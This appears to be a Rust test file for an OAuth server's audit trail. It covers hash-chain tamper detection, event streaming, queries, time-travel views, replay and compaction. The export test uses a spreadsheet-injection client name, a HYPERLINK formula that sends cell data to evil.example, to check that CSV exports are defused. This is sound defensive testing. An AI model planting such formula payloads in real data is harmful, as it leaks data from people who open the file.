//! The audit trail: the hash chain, queries, the live stream, time travel, replay checks and
//! retention.

use crate::helpers::*;
use crate::logfile;
use serde_json::Value;

fn verify(app: &TestApp) -> (bool, String) {
    let out = app.cli(&["audit", "verify"]);
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.success(), text)
}

/// Some history: clients, tokens, a revocation.
fn some_history(app: &TestApp) {
    for _ in 0..3 {
        let (id, secret) = app.create_client(&["--token-format", "opaque"]);
        let t = app.token(&id, &secret, None);
        let token = t["access_token"].as_str().unwrap();
        let (status, _) = app.post_form("/revoke", Some((&id, &secret)), &[("token", token)]);
        assert_eq!(status, 200);
    }
}

#[test]
fn verify_finds_a_changed_byte_a_removed_event_and_a_reordered_pair() {
    let mut app = spawn_app();
    some_history(&app);
    app.stop();
    let (ok, text) = verify(&app);
    assert!(ok, "{text}");
    assert!(text.starts_with("verified "), "{text}");
    let report = app.cli_json(&["audit", "verify", "--format", "json"]);
    assert_eq!(report["status"], "verified");
    let head = report["head_position"].as_u64().unwrap();
    assert!(head > 10, "{report}");
    let target = head / 2;

    // One byte of one event, the first of its stream's name so that it stays a readable event,
    // written back with a valid checksum: only the hash chain can tell.
    let original = logfile::as_pairs(&logfile::records(app.data_dir()));
    let mut changed = original.clone();
    {
        let payload = &mut changed[target as usize - 1].1;
        // The binary envelope (docs/log-format.md): 79 fixed bytes, the name's u16 length.
        assert_eq!(payload[0], 2, "a binary envelope");
        payload[81] ^= 0x01;
    }
    logfile::rewrite(app.data_dir(), &changed);
    let (ok, text) = verify(&app);
    assert!(!ok, "{text}");
    assert!(
        text.contains(&format!("breaks at position {target}:")),
        "{text}"
    );
    // A start that walks the whole chain refuses it, and says what to do.
    let err = failed_start(app.data_dir(), &["--verify-on-start", "full"], &[]);
    assert!(
        err.contains(&format!("breaks at position {target}")),
        "{err}"
    );
    assert!(err.contains("--allow-unverified"), "{err}");
    // A start that walks only what follows the last verified mark serves, and the whole walk
    // it runs in the background records the break in the trail.
    app.start();
    // Waited for on the event stream, which answers when the walk records its outcome.
    let admin = app.admin_token();
    let mut stream = stream_agent()
        .get(&format!(
            "{}/admin/api/events/stream?from=1&type=ChainBroken",
            app.base
        ))
        .header("Authorization", &format!("Bearer {admin}"))
        .call()
        .unwrap();
    let recorded = read_sse(&mut stream, |_| true);
    drop(stream);
    assert_eq!(recorded[0].1, "ChainBroken", "{recorded:?}");
    assert_eq!(
        recorded[0].2["data"]["position"].as_u64(),
        Some(target),
        "{recorded:?}"
    );
    app.stop();
    // Told to, a full start serves anyway.
    app.flags = vec![
        "--allow-unverified".into(),
        "--verify-on-start".into(),
        "full".into(),
    ];
    app.start();
    assert_eq!(app.get("/healthz").0, 200);
    app.stop();
    app.flags.clear();

    // Put it back: the chain holds again. (The servers since appended their walks' events.)
    let mut pairs = logfile::as_pairs(&logfile::records(app.data_dir()));
    pairs[target as usize - 1] = original[target as usize - 1].clone();
    logfile::rewrite(app.data_dir(), &pairs);
    let (ok, text) = verify(&app);
    assert!(ok, "{text}");
    let removed_at = target + 1;
    let without: Vec<(u64, Vec<u8>)> = pairs
        .iter()
        .filter(|(p, _)| *p != removed_at)
        .cloned()
        .collect();
    logfile::rewrite(app.data_dir(), &without);
    let (ok, text) = verify(&app);
    assert!(!ok);
    assert!(
        text.contains(&format!("breaks at position {removed_at}:")) && text.contains("missing"),
        "{text}"
    );

    // Swap two neighbours' contents.
    let mut swapped = pairs.clone();
    let (i, j) = (target as usize - 1, target as usize);
    let (a, b) = (swapped[i].1.clone(), swapped[j].1.clone());
    swapped[i].1 = b;
    swapped[j].1 = a;
    logfile::rewrite(app.data_dir(), &swapped);
    let (ok, text) = verify(&app);
    assert!(!ok);
    assert!(
        text.contains(&format!("breaks at position {target}:")) && text.contains("reordered"),
        "{text}"
    );
    let out = app.cli(&["audit", "verify", "--format", "json"]);
    assert_eq!(out.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["status"], "broken");
    assert_eq!(report["position"].as_u64(), Some(target), "{report}");
}

#[test]
fn verify_runs_through_the_admin_api_while_the_server_runs() {
    let app = spawn_app();
    some_history(&app);
    let report = app.cli_json(&["audit", "verify", "--format", "json"]);
    assert_eq!(report["status"], "verified", "{report}");
    let token = app.admin_token();
    let (status, body) = answer(
        app.agent
            .get(&format!("{}/admin/api/audit/verify", app.base))
            .header("Authorization", &format!("Bearer {token}"))
            .call(),
    );
    assert_eq!(status, 200);
    assert_eq!(body["status"], "verified");
    assert!(body["events"].as_u64().unwrap() >= report["events"].as_u64().unwrap());
}

/// Reads server-sent events from `res` until `stop` says so; answers (position, type, data).
fn read_sse(
    res: &mut ureq::http::Response<ureq::Body>,
    stop: impl FnMut(u64) -> bool,
) -> Vec<(u64, String, Value)> {
    read_sse_until(res, stop, false).0
}

/// Reads events until `stop` says so, or (with `until_caught_up`) until the server's
/// `: caught up` comment; answers the events and whether the comment came.
fn read_sse_until(
    res: &mut ureq::http::Response<ureq::Body>,
    mut stop: impl FnMut(u64) -> bool,
    until_caught_up: bool,
) -> (Vec<(u64, String, Value)>, bool) {
    use std::io::BufRead;
    let reader = std::io::BufReader::new(res.body_mut().as_reader());
    let mut out = Vec::new();
    let (mut id, mut kind, mut data) = (None, String::new(), String::new());
    for line in reader.lines() {
        let line = line.unwrap();
        if line.starts_with(": caught up") && until_caught_up {
            return (out, true);
        }
        if let Some(v) = line.strip_prefix("id: ") {
            id = Some(v.parse::<u64>().unwrap());
        } else if let Some(v) = line.strip_prefix("event: ") {
            kind = v.to_owned();
        } else if let Some(v) = line.strip_prefix("data: ") {
            data.push_str(v);
        } else if line.is_empty() && !data.is_empty() {
            let position = id.take().unwrap();
            out.push((position, kind.clone(), serde_json::from_str(&data).unwrap()));
            data.clear();
            if stop(position) {
                break;
            }
        }
    }
    (out, false)
}

fn stream_agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(std::time::Duration::from_secs(60)))
        .build()
        .into()
}

fn head_position(app: &TestApp) -> u64 {
    let v = app.cli_json(&[
        "audit",
        "query",
        "--newest-first",
        "--limit",
        "1",
        "--format",
        "json",
    ]);
    v[0]["position"].as_u64().unwrap()
}

#[test]
fn the_event_stream_resumed_from_a_position_delivers_each_event_exactly_once() {
    let mut app = spawn_app();
    let (id, secret) = app.create_client(&["--token-format", "opaque"]);
    for _ in 0..5 {
        app.token(&id, &secret, None);
    }
    let admin = app.admin_token();
    let sse = stream_agent();
    let open = |query: &str, last_seen: Option<u64>| {
        let mut req = sse
            .get(&format!("{}/admin/api/events/stream?{query}", app.base))
            .header("Authorization", &format!("Bearer {admin}"));
        if let Some(p) = last_seen {
            req = req.header("Last-Event-ID", &p.to_string());
        }
        let res = req.call().unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(
            res.headers()["content-type"].to_str().unwrap(),
            "text/event-stream"
        );
        res
    };
    // Tokens keep being issued while the stream is read, dropped and resumed.
    let writer = {
        let (base, id, secret) = (app.base.clone(), id.clone(), secret.clone());
        std::thread::spawn(move || {
            let agent = agent();
            for _ in 0..60 {
                let res = agent
                    .post(&format!("{base}/token"))
                    .send_form([
                        ("grant_type", "client_credentials"),
                        ("client_id", id.as_str()),
                        ("client_secret", secret.as_str()),
                    ])
                    .unwrap();
                assert_eq!(res.status(), 200);
            }
        })
    };
    let mut first = open("from=1", None);
    let got = read_sse(&mut first, |p| p >= 12);
    drop(first);
    let last_seen = got.last().unwrap().0;
    writer.join().unwrap();
    let head = head_position(&app);
    let mut second = open("from=1", Some(last_seen));
    let rest = read_sse(&mut second, |p| p >= head);
    let positions: Vec<u64> = got.iter().chain(rest.iter()).map(|(p, _, _)| *p).collect();
    assert_eq!(
        positions,
        (1..=head).collect::<Vec<_>>(),
        "each event once, in order"
    );
    for (p, kind, data) in got.iter().chain(rest.iter()) {
        assert_eq!(data["position"].as_u64(), Some(*p));
        assert_eq!(data["type"].as_str(), Some(kind.as_str()));
    }
    // Filtered: only this client's tokens, from a later position, live events too.
    let mut filtered = open(&format!("from=1&client={id}&type=AccessTokenIssued"), None);
    // The 65 tokens issued so far, the server's word that the backlog is over, then one
    // issued after it: that one can only have come by the live path.
    let (mut tokens, caught_up) = read_sse_until(&mut filtered, |_| false, true);
    assert!(caught_up, "the stream says when the backlog ends");
    assert_eq!(
        tokens.len(),
        65,
        "the backlog: {:?}",
        tokens.iter().map(|t| t.0).collect::<Vec<_>>()
    );
    app.token(&id, &secret, None);
    let live = read_sse(&mut filtered, |_| true);
    assert_eq!(live.len(), 1, "one live event");
    tokens.extend(live);
    assert!(tokens
        .iter()
        .all(|(_, kind, data)| kind == "AccessTokenIssued"
            && data["data"]["client_id"] == id.as_str()));
    assert!(
        tokens.last().unwrap().0 > head,
        "the live event arrived: head {head}, {} tokens at {:?}",
        tokens.len(),
        tokens.iter().map(|t| t.0).collect::<Vec<_>>()
    );
    // A stream still open does not hold up a graceful stop.
    let started = std::time::Instant::now();
    app.stop();
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
}

#[test]
fn audit_tail_prints_the_latest_events_and_follows_new_ones() {
    let mut app = spawn_app();
    let (id, secret) = app.create_client(&[]);
    app.token(&id, &secret, None);
    // Stopped, so that no admin token of the CLI's own lands between the calls.
    app.stop();
    let out = app.cli(&["audit", "tail", "-n", "2", "--format", "jsonl"]);
    assert!(out.status.success());
    let lines: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let head = head_position(&app);
    assert_eq!(
        lines
            .iter()
            .map(|l| l["position"].as_u64().unwrap())
            .collect::<Vec<_>>(),
        [head - 1, head]
    );
    app.start();
    // Following: the events recorded after the tail started arrive, each once.
    let mut child = std::process::Command::new(BIN)
        .args([
            "audit", "tail", "--follow", "--from", "1", "--format", "jsonl",
        ])
        .args(["--client", &id])
        .arg("--data-dir")
        .arg(app.data_dir())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    for _ in 0..3 {
        app.token(&id, &secret, None);
    }
    // A tail that never delivers fails the test within 30 s instead of hanging it.
    let (done, finished) = std::sync::mpsc::channel::<()>();
    let pid = child.id() as i32;
    std::thread::spawn(move || {
        if finished
            .recv_timeout(std::time::Duration::from_secs(30))
            .is_err()
        {
            crate::helpers::send_signal(pid, "KILL");
        }
    });
    let stdout = child.stdout.take().unwrap();
    let mut seen = Vec::new();
    use std::io::BufRead;
    for line in std::io::BufReader::new(stdout).lines() {
        let v: Value = serde_json::from_str(&line.unwrap()).unwrap();
        assert_eq!(v["data"]["client_id"], id.as_str());
        seen.push(v["type"].as_str().unwrap().to_owned());
        if seen.iter().filter(|t| *t == "AccessTokenIssued").count() == 4 {
            break;
        }
    }
    let _ = done.send(());
    let _ = child.kill();
    child.wait().unwrap();
    assert_eq!(
        seen.iter().filter(|t| *t == "AccessTokenIssued").count(),
        4,
        "the tail stopped after {seen:?}"
    );
    assert_eq!(seen.first().map(String::as_str), Some("ClientRegistered"));
    // Without a server there is nothing to follow, and it says so.
    app.stop();
    let out = app.cli(&["audit", "tail", "--follow"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("needs a running server"));
}

#[test]
fn queries_filter_by_request_and_correlation_id_page_newest_first_and_print_every_format() {
    let app = spawn_app();
    let (id, secret) = app.create_client(&["--token-format", "opaque"]);
    let res = app
        .agent
        .post(&format!("{}/token", app.base))
        .header("X-Request-Id", "req-7f3a")
        .header("X-Correlation-Id", "batch-42")
        .send_form([
            ("grant_type", "client_credentials"),
            ("client_id", id.as_str()),
            ("client_secret", secret.as_str()),
        ])
        .unwrap();
    assert_eq!(res.status(), 200);
    for _ in 0..4 {
        app.token(&id, &secret, None);
    }
    let by_request = app.cli_json(&[
        "audit",
        "query",
        "--request-id",
        "req-7f3a",
        "--format",
        "json",
    ]);
    let by_request = by_request.as_array().unwrap();
    assert_eq!(by_request.len(), 1, "{by_request:?}");
    assert_eq!(by_request[0]["type"], "AccessTokenIssued");
    let by_correlation = app.cli_json(&[
        "audit",
        "query",
        "--correlation-id",
        "batch-42",
        "--client",
        &id,
        "--format",
        "json",
    ]);
    assert_eq!(by_correlation.as_array().unwrap().len(), 1);

    // Newest first, two to a page, the cursor going backwards.
    let page = |extra: &[&str]| -> Vec<u64> {
        let mut args = vec![
            "audit",
            "query",
            "--client",
            &id,
            "--newest-first",
            "--limit",
            "2",
            "--format",
            "json",
        ];
        args.extend_from_slice(extra);
        app.cli_json(&args)
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["position"].as_u64().unwrap())
            .collect()
    };
    let first = page(&[]);
    assert_eq!(first.len(), 2);
    assert!(first[0] > first[1]);
    let before = first[1].to_string();
    let second = page(&["--before", &before]);
    assert!(second[0] < first[1], "{first:?} then {second:?}");

    // The same through the admin API, and a mistaken cursor is a clear 400.
    let admin = app.admin_token();
    let (status, body) = answer(
        app.agent
            .get(&format!(
                "{}/admin/api/audit?client={id}&order=desc&limit=2",
                app.base
            ))
            .header("Authorization", &format!("Bearer {admin}"))
            .call(),
    );
    assert_eq!(status, 200);
    assert_eq!(body["events"].as_array().unwrap().len(), 2);
    assert!(body["head_position"].as_u64().unwrap() >= first[0]);
    let (status, body) = answer(
        app.agent
            .get(&format!("{}/admin/api/audit?order=desc&after=3", app.base))
            .header("Authorization", &format!("Bearer {admin}"))
            .call(),
    );
    assert_eq!(status, 400);
    assert_eq!(body["error"], "invalid_request");

    // Every output format.
    for format in ["table", "json", "jsonl", "csv"] {
        let out = app.cli(&["audit", "query", "--client", &id, "--format", format]);
        assert!(out.status.success());
        let text = String::from_utf8_lossy(&out.stdout);
        match format {
            "json" => assert_eq!(
                serde_json::from_str::<Value>(&text)
                    .unwrap()
                    .as_array()
                    .unwrap()
                    .len(),
                6
            ),
            "jsonl" => assert_eq!(text.lines().count(), 6),
            "csv" => {
                assert!(text.starts_with("position,recorded_at,type"));
                assert_eq!(text.lines().count(), 7);
            }
            _ => assert!(text.contains("AccessTokenIssued") && text.contains("ClientRegistered")),
        }
    }
}

/// The `recorded_at` and jti of the latest `AccessTokenIssued` of a client.
fn last_issued(app: &TestApp, client: &str) -> (String, String, u64) {
    let v = app.cli_json(&[
        "audit",
        "query",
        "--client",
        client,
        "--type",
        "AccessTokenIssued",
        "--newest-first",
        "--limit",
        "1",
        "--format",
        "json",
    ]);
    let e = &v[0];
    (
        e["recorded_at"].as_str().unwrap().to_owned(),
        e["data"]["jti"].as_str().unwrap().to_owned(),
        e["position"].as_u64().unwrap(),
    )
}

/// The jtis of the tokens a `client show --as-of` found active.
fn active_jtis(shown: &Value) -> Vec<&str> {
    shown["active_tokens"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["jti"].as_str().unwrap())
        .collect()
}

#[test]
fn as_of_answers_match_the_state_at_that_time_in_a_scripted_history() {
    let mut app = spawn_app();
    let (id, secret) = app.create_client(&[
        "--grant-type",
        "client_credentials",
        "--grant-type",
        "authorization_code",
        "--redirect-uri",
        "https://a.example/cb",
        "--token-format",
        "opaque",
    ]);
    let first = app.token(&id, &secret, None);
    let first = first["access_token"].as_str().unwrap().to_owned();
    let (t1, jti1, p1) = last_issued(&app, &id);
    // Then the history moves on: the redirect URI changes, the token is revoked, another comes.
    let out = app.cli(&[
        "client",
        "update",
        &id,
        "--add-redirect-uri",
        "https://b.example/cb",
        "--remove-redirect-uri",
        "https://a.example/cb",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (status, _) = app.post_form("/revoke", Some((&id, &secret)), &[("token", &first)]);
    assert_eq!(status, 200);
    app.token(&id, &secret, None);
    let (t2, jti2, _) = last_issued(&app, &id);
    assert_eq!(app.introspect(&id, &secret, &first)["active"], false);

    let show = |app: &TestApp, at: &str| {
        app.cli_json(&["client", "show", &id, "--as-of", at, "--format", "json"])
    };
    let then = show(&app, &t1);
    assert_eq!(then["position"].as_u64(), Some(p1));
    assert_eq!(
        then["client"]["redirect_uris"],
        serde_json::json!(["https://a.example/cb"])
    );
    assert_eq!(active_jtis(&then), [jti1.as_str()]);
    let now = show(&app, &t2);
    assert_eq!(
        now["client"]["redirect_uris"],
        serde_json::json!(["https://b.example/cb"])
    );
    assert_eq!(
        active_jtis(&now),
        [jti2.as_str()],
        "the first was revoked by then"
    );
    // Before the client existed.
    let before = show(&app, "2000-01-01T00:00:00Z");
    assert!(before["client"].is_null());
    // The trail as it stood at t1: nothing after it.
    let trail = app.cli_json(&[
        "audit", "query", "--as-of", &t1, "--format", "json", "--limit", "1000",
    ]);
    let positions: Vec<u64> = trail
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["position"].as_u64().unwrap())
        .collect();
    assert_eq!(positions, (1..=p1).collect::<Vec<_>>());
    // A moment not yet come is refused.
    let out = app.cli(&["client", "show", &id, "--as-of", "2999-01-01T00:00:00Z"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("has not happened yet"));
    // Offline, `replay --as-of` builds the same view, and the answers agree.
    app.stop();
    let built = app.cli_json(&["replay", "--as-of", &t1, "--format", "json"]);
    assert_eq!(built["position"].as_u64(), Some(p1));
    assert_eq!(show(&app, &t1), then);
    let out = app.cli(&["replay", "--as-of", "1990-01-01T00:00:00Z"]);
    assert!(out.status.success());
}

#[test]
fn replay_verify_finds_no_difference_after_use_and_the_one_row_a_test_corrupted() {
    let mut app = spawn_app();
    some_history(&app);
    app.stop();
    let out = app.cli(&["replay", "--verify"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("no difference"));
    // Change one row of the token index's checkpoint, with valid checksums (a bug that wrote a
    // wrong row would look like this).
    let key = {
        use authledger::store::checkpoints::{decode, encode};
        let file = app.data_dir().join("projections").join("tokens.ckpt");
        let (_, mut rows) = decode(&std::fs::read(&file).unwrap()).unwrap();
        // Access tokens are 60-byte slots in chunk rows `\xf1s` + chunk number
        // (docs/log-format.md).
        let (k, v) = rows
            .iter()
            .find(|(k, _)| k.starts_with(b"\xf1s"))
            .map(|(k, v)| (k.clone(), v.clone()))
            .unwrap();
        // The first token's expiry (bytes 44..48 of its slot) moved a few seconds on.
        let mut forged = v.clone();
        forged[44] = forged[44].wrapping_add(9);
        assert_ne!(forged, v);
        rows.insert(k.clone(), forged);
        std::fs::write(&file, encode(&rows)).unwrap();
        k
    };
    let out = app.cli(&["replay", "--verify", "--format", "json"]);
    assert_eq!(out.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["differing"], 1, "{report}");
    let d = &report["differences"][0];
    assert_eq!(d["projection"], "tokens");
    assert!(d["key"].as_str().unwrap().starts_with('j'));
    assert_ne!(d["live"], d["rebuilt"], "{d}");
    assert!(d["rebuilt"].as_str().unwrap().starts_with("\\x01"), "{d}");
    assert!(key.starts_with(b"\xf1s"));
    // A replay repairs it.
    assert!(app.cli(&["replay"]).status.success());
    assert!(app.cli(&["replay", "--verify"]).status.success());
}

#[test]
fn compaction_keeps_the_chain_verifiable_and_replay_gives_the_same_live_state() {
    let mut app = spawn_app_with(&["--test-clock"]);
    let (short, short_secret) =
        app.create_client(&["--token-format", "opaque", "--access-token-ttl", "1"]);
    let (long, long_secret) = app.create_client(&["--token-format", "opaque"]);
    for i in 0..300 {
        let t = app.token(&short, &short_secret, None);
        if i % 50 == 0 {
            let token = t["access_token"].as_str().unwrap();
            let (status, _) = app.post_form(
                "/revoke",
                Some((&short, &short_secret)),
                &[("token", token)],
            );
            assert_eq!(status, 200);
        }
    }
    let kept = app.token(&long, &long_secret, None)["access_token"]
        .as_str()
        .unwrap()
        .to_owned();
    // Recent events are left alone: push the short-lived ones well behind the head.
    for _ in 0..600 {
        app.token(&long, &long_secret, None);
    }
    app.advance_clock(1100);
    // While the server serves.
    let report = app.compact_expired_tokens();
    assert_eq!(report["removed"], 306, "{report}");
    assert_eq!(report["batches"], 4, "{report}");
    assert_eq!(app.introspect(&long, &long_secret, &kept)["active"], true);
    assert_eq!(
        app.event_types_of(&short),
        ["ClientRegistered"],
        "only the registration is left"
    );
    let compactions = app.events("HistoryCompacted");
    assert_eq!(compactions.len(), 4);
    // Running it again finds nothing more.
    let again = app.compact_expired_tokens();
    assert_eq!(again["removed"], 0);
    app.stop();

    // The chain is verifiable across every run, and says which it crossed.
    let verified = app.cli_json(&["audit", "verify", "--format", "json"]);
    assert_eq!(verified["status"], "verified", "{verified}");
    assert_eq!(
        verified["checkpoints"].as_array().unwrap().len() as u64,
        report["runs"].as_u64().unwrap()
    );
    let text = String::from_utf8_lossy(&app.cli(&["audit", "verify"]).stdout).into_owned();
    assert!(text.contains("crossed compaction checkpoint"), "{text}");
    // The live projections are what a rebuild of the compacted log gives...
    let out = app.cli(&["replay", "--verify"]);
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    // ...and after a replay the server answers as before.
    assert!(app.cli(&["replay"]).status.success());
    app.start();
    assert_eq!(app.introspect(&long, &long_secret, &kept)["active"], true);
    app.stop();

    // A forged checkpoint (one the chained event did not record) is caught.
    {
        use authledger::store::segments::{meta_body, meta_file};
        let file = app.data_dir().join("log").join("runs.meta");
        let bytes = std::fs::read(&file).unwrap();
        let mut runs: Value = serde_json::from_slice(meta_body(&bytes).unwrap()).unwrap();
        runs[0]["compacted_by"] = Value::from(1);
        std::fs::write(&file, meta_file(&serde_json::to_vec(&runs).unwrap())).unwrap();
    }
    let (ok, text) = verify(&app);
    assert!(!ok);
    assert!(text.contains("is not the one event 1 recorded"), "{text}");
}

#[test]
fn exports_carry_each_events_details_without_secrets_and_defuse_spreadsheet_formulas() {
    let app = spawn_app();
    some_history(&app);
    // A client name a spreadsheet would run as a formula.
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let made = app.cli_json(&[
        "client",
        "create",
        "--name",
        evil,
        "--scope",
        "read write",
        "--token-format",
        "opaque",
        "--format",
        "json",
    ]);
    let id = made["client_id"].as_str().unwrap().to_owned();
    let secret = made["client_secret"].as_str().unwrap().to_owned();
    let token = app.token(&id, &secret, Some("read"))["access_token"]
        .as_str()
        .unwrap()
        .to_owned();

    // CSV to stdout (audit query) and to a file (audit export): the same rows.
    let out = app.cli(&["audit", "query", "--client", &id, "--format", "csv"]);
    assert!(out.status.success());
    let csv_text = String::from_utf8(out.stdout).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("trail.csv");
    let out = app.cli(&[
        "audit",
        "export",
        "--client",
        &id,
        "--format",
        "csv",
        "--output",
        file.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let exported = std::fs::read_to_string(&file).unwrap();
    assert_eq!(exported, csv_text);
    let mut reader = csv::Reader::from_reader(exported.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(&header[7..], ["client_id", "subject", "details"]);
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let registered = rows
        .iter()
        .find(|r| r[2] == "ClientRegistered")
        .expect("ClientRegistered row");
    assert_eq!(registered[7], id);
    // The name is there, defused: no cell begins with = + - @ tab or CR.
    assert!(
        registered[9].contains("name=\"=HYPERLINK") || registered[9].contains("name==HYPERLINK"),
        "{}",
        registered[9]
    );
    assert!(
        registered[9].contains("scopes=read,write"),
        "{}",
        registered[9]
    );
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell == "-",
                "a cell a spreadsheet would run: {cell}"
            );
        }
    }
    let issued = rows
        .iter()
        .find(|r| r[2] == "AccessTokenIssued")
        .expect("AccessTokenIssued row");
    assert!(
        issued[9].contains("grant_type=client_credentials") && issued[9].contains("scopes=read"),
        "{}",
        issued[9]
    );
    // No hash of a secret, token or code, and never the token itself.
    assert!(
        !exported.contains("hmac-sha256:") && !exported.contains("secret_hash"),
        "{exported}"
    );
    assert!(!exported.contains(&token) && !exported.contains(&secret));
    // The name as a cell of its own gets the quote (the table's name column).
    let out = app.cli(&["client", "list", "--format", "csv"]);
    let listed = String::from_utf8(out.stdout).unwrap();
    assert!(listed.contains("'=HYPERLINK"), "{listed}");

    // JSON Lines of everything: each line one event as recorded, in order, the file complete.
    let all = dir.path().join("trail.jsonl");
    let out = app.cli(&["audit", "export", "--output", all.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("wrote "));
    let lines: Vec<Value> = std::fs::read_to_string(&all)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(lines.len() > 10);
    assert!(lines
        .windows(2)
        .all(|w| w[0]["position"].as_u64() < w[1]["position"].as_u64()));
    assert_eq!(
        lines.len() as u64,
        lines.last().unwrap()["position"].as_u64().unwrap()
            - lines[0]["position"].as_u64().unwrap()
            + 1
    );
    assert!(!dir.path().join("trail.jsonl.partial").exists());
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&all).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "the trail is its owner's alone");
    }
    // Resuming after the last position exports nothing more.
    let last = lines.last().unwrap()["position"]
        .as_u64()
        .unwrap()
        .to_string();
    let rest = dir.path().join("rest.jsonl");
    let out = app.cli(&[
        "audit",
        "export",
        "--after",
        &last,
        "--output",
        rest.to_str().unwrap(),
    ]);
    assert!(out.status.success());
    let rest_text = std::fs::read_to_string(&rest).unwrap();
    assert!(
        rest_text
            .lines()
            .all(|l| serde_json::from_str::<Value>(l).unwrap()["position"]
                .as_u64()
                .unwrap()
                > last.parse().unwrap()),
        "{rest_text}"
    );
}
